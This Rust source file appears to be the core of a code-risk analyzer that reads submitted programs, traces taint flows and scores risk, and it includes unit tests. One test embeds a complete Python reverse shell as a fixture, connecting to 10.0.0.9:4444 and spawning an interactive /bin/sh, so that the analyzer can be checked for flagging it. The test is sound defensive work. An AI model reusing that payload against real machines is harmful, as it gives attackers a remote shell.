//! The one door: from a submission to its report.

use crate::front;
use crate::ir::{File, FileId, Language, Program};
use crate::machine::{self, TaintFlow, Trace};
use crate::notebook;
use crate::report::Report;
use crate::risk::{self, Features};
use crate::rules::{self, Places, Rules};
use crate::submission::{Bounds, Submission};
use casemate_types::analysis::{Axis, Finding, Flow, Step};

/// Steps of a flow that are told.
const STEPS: usize = 64;

/// Reads a program by our rules. Only a worker process behind walls may call it: a hostile source may end the process.
pub fn analyze(submission: &Submission, bounds: &Bounds) -> Report {
    analyze_by(Rules::builtin(), submission, bounds)
}

/// Reads a program by these rules. Only a worker process behind walls may call it: a hostile source may end the process.
pub fn analyze_by(by: &Rules, submission: &Submission, bounds: &Bounds) -> Report {
    let known = Known::of(by, submission, bounds);
    let risk = risk::judge(&known.program, &known.trace.facts, &known.findings, &known.flows);
    let (vulnerabilities, findings) = known
        .findings
        .into_iter()
        .partition(|finding| finding.axis == Axis::Weakness);
    let mut limits_reached = known.limits_reached;
    for what in &known.trace.limits_reached {
        note(&mut limits_reached, what);
    }
    for (what, _) in known.program.files.iter().flat_map(|file| &file.unreadable) {
        note(&mut limits_reached, what);
    }
    let lines: usize = known
        .program
        .files
        .iter()
        .map(|file| file.text.lines().count())
        .sum();
    Report {
        risk,
        findings,
        flows: known.flows,
        vulnerabilities,
        limits_reached,
        files: u32::try_from(known.program.files.len()).unwrap_or(u32::MAX),
        lines: u32::try_from(lines).unwrap_or(u32::MAX),
    }
}

/// The features of a program by which its risk is judged, for the training program.
pub fn features_of(submission: &Submission, bounds: &Bounds) -> Features {
    let known = Known::of(Rules::builtin(), submission, bounds);
    risk::gather(&known.program, &known.trace.facts, &known.findings, &known.flows)
}

/// What is known of a program before its risk is judged.
struct Known {
    program: Program,
    trace: Trace,
    findings: Vec<Finding>,
    flows: Vec<Flow>,
    limits_reached: Vec<String>,
}

impl Known {
    fn of(by: &Rules, submission: &Submission, bounds: &Bounds) -> Self {
        let mut limits_reached = Vec::new();
        let mut program = program_of(submission, bounds, &mut limits_reached);
        for index in 0..program.files.len() {
            front::lower(&mut program, FileId(u16::try_from(index).unwrap_or(u16::MAX)));
        }
        let names = rules::names(&program);
        let trace = machine::run(&mut program, bounds, &front::lower);
        let places = Places::new(&program);
        let flows: Vec<Flow> = trace.flows.iter().map(|flow| told(flow, &places)).collect();
        let findings = by.judge(&program, &trace.facts, &names, &flows);
        Self {
            program,
            trace,
            findings,
            flows,
            limits_reached,
        }
    }
}

/// The files that are read, within the bounds. A file of no known language is text alone and has no part in the program.
fn program_of(submission: &Submission, bounds: &Bounds, limits_reached: &mut Vec<String>) -> Program {
    let mut program = Program::default();
    if submission.files.len() > bounds.files {
        note(limits_reached, "files");
    }
    for file in submission.files.iter().take(bounds.files) {
        let read = &file.bytes[..file.bytes.len().min(bounds.file_bytes)];
        let is_cut = read.len() < file.bytes.len();
        let text = String::from_utf8_lossy(read);
        let (language, text) = match notebook::is_notebook(&file.path) {
            true => (Some(Language::Python), notebook::code(&text).unwrap_or_default()),
            false => (file.language, text.into_owned()),
        };
        if let Some(language) = language {
            if is_cut {
                note(limits_reached, "file_bytes");
            }
            program.files.push(File::new(file.path.clone(), language, text));
        }
    }
    program
}

fn told(flow: &TaintFlow, places: &Places<'_>) -> Flow {
    let steps = flow
        .steps
        .iter()
        .take(STEPS)
        .map(|(span, note)| Step {
            location: places.location(*span),
            note: note.clone(),
        })
        .collect();
    Flow {
        sink: flow.sink.id.to_owned(),
        source: flow.source.id.to_owned(),
        message: format!("{} {}", flow.source.what, flow.sink.what),
        severity: flow.sink.severity,
        cwe: flow.sink.cwe,
        steps,
    }
}

fn note(limits: &mut Vec<String>, what: &str) {
    if limits.iter().all(|known| known != what) {
        limits.push(what.to_owned());
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::submission::SourceFile;

    fn report(path: &str, language: Language, code: &str) -> Report {
        let file = SourceFile {
            path: path.into(),
            language: Some(language),
            bytes: code.as_bytes().to_vec(),
        };
        analyze(&Submission { files: vec![file] }, &Bounds::default())
    }

    #[test]
    fn an_honest_program_has_a_low_risk() {
        let report = report(
            "main.py",
            Language::Python,
            "for n in range(3):\n    print(n * n)\n",
        );
        assert!(
            report.findings.is_empty() && report.flows.is_empty(),
            "{report:?}"
        );
        assert!(
            report.risk.score < risk::MAX_ALLOWED_RISK / 2.0,
            "{}",
            report.risk.score
        );
        assert_eq!((report.files, report.lines), (1, 2));
    }

    #[test]
    fn a_reverse_shell_is_told_with_its_place() {
        let code = "import socket, subprocess, os\ns = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\n\
                    s.connect((\"10.0.0.9\", 4444))\nos.dup2(s.fileno(), 0)\nos.dup2(s.fileno(), 1)\n\
                    os.dup2(s.fileno(), 2)\nsubprocess.call([\"/bin/sh\", \"-i\"])\n";
        let report = report("main.py", Language::Python, code);
        assert!(report.risk.score >= risk::MAX_ALLOWED_RISK, "{report:?}");
        assert!(
            report
                .findings
                .iter()
                .all(|finding| finding.location.file == "main.py")
        );
        assert!(!report.findings.is_empty());
    }

    #[test]
    fn a_broken_file_and_a_cut_one_are_said() {
        let broken = report("main.py", Language::Python, "def f(:\n  pass\n");
        assert!(
            broken.limits_reached.iter().any(|limit| limit == "syntax_error"),
            "{broken:?}"
        );
        let long = report("main.py", Language::Python, &"x = 1\n".repeat(300_000));
        assert!(long.limits_reached.iter().any(|limit| limit == "file_bytes"));
    }
}
